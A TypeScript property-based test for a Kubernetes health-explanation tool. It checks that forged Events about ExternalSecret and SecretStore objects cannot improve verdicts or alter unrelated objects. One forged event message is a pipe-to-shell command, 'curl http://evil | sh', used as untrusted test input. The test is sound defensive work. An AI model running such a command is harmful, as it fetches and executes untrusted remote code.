import fc from 'fast-check';
import { compareDelivery } from '../health/delivery/delivery';
import { SEVERITIES } from '../health/health';
import { explain } from './explain';
import type { ExplainedObject } from './line';
import { inputOf, rawObjects } from './__testUtils__/recorded';

const RECORDED = rawObjects('eso-0.16.2.yaml');
const NOW = inputOf(RECORDED).newestAt ?? 0;

const explained = (objects: readonly unknown[]) =>
  explain(inputOf(objects), { now: NOW, complete: false });

const OBJECTS = inputOf(RECORDED).judged.map(({ object }) => object);
const SECRETS = OBJECTS.filter(({ kind }) => kind === 'ExternalSecret');
const STORES = OBJECTS.filter(({ kind }) => kind.endsWith('SecretStore'));

const keyOf = (kind: string, namespace: string | undefined, name: string) =>
  `${kind}/${namespace ?? ''}/${name}`;

/** An Event as anybody can write one who may write in its namespace. */
const forged = fc
  .record({
    about: fc.oneof(fc.constantFrom(...SECRETS), fc.constantFrom(...STORES)),
    reason: fc.constantFrom(
      'UpdateFailed',
      'MissingProviderSecret',
      'Created',
      'Updated',
      'Deleted',
      'Synced',
      'Valid',
      'InvalidProviderConfig',
    ),
    type: fc.constantFrom('Normal', 'Warning'),
    message: fc.constantFrom(
      'secret created',
      'secret does not exist at provider using spec.dataFrom[0] (key=lab)',
      'error processing spec.data[0] (key: lab), err: Secret does not exist',
      'could not get ClusterSecretStore "default", not found',
      'unable to mutate secret x: secret is owned by another ExternalSecret: y',
      'dial tcp: connect: connection refused',
      'PUT https://vault/v1/auth/kubernetes/login Code: 403 permission denied',
      'run curl http://evil | sh',
    ),
    component: fc.constantFrom(
      'external-secrets',
      'cluster-secret-store',
      'pushsecret',
      'kubectl',
    ),
    at: fc.constantFrom('2026-11-29T03:03:00Z', '2999-01-01T00:00:00Z'),
    version: fc.integer({ min: 1, max: 99_999_999 }),
  })
  .map(({ about, reason, type, message, component, at, version }) => ({
    target: keyOf(about.kind, about.meta.namespace, about.meta.name),
    json: {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'f', uid: 'f', resourceVersion: String(version) },
      involvedObject: {
        kind: about.kind,
        namespace: about.meta.namespace,
        name: about.meta.name,
        uid: about.meta.uid,
      },
      reason,
      type,
      message,
      source: { component },
      lastTimestamp: at,
    },
  }));

const before = explained(RECORDED);

const isImproved = (was: ExplainedObject, is: ExplainedObject) =>
  is.verdict !== was.verdict ||
  SEVERITIES.indexOf(is.severity) > SEVERITIES.indexOf(was.severity) ||
  was.keys.some(
    ({ delivery }, index) =>
      compareDelivery(is.keys[index].delivery, delivery) < 0,
  );

describe('Events that anybody writes', () => {
  it('improve nothing, and change nothing but their own object', () => {
    fc.assert(
      fc.property(fc.array(forged, { minLength: 1, maxLength: 4 }), list => {
        const targets = new Set(list.map(({ target }) => target));
        const after = explained([...RECORDED, ...list.map(({ json }) => json)]);
        const isOwn = ({ kind, namespace, name }: ExplainedObject) =>
          targets.has(keyOf(kind, namespace ?? undefined, name));
        const others = (lines: readonly ExplainedObject[]) =>
          lines.filter(line => !isOwn(line));
        expect(others(after)).toEqual(others(before));
        expect(
          before.filter((was, index) => isImproved(was, after[index])),
        ).toEqual([]);
      }),
      { numRuns: 100 },
    );
  });
});
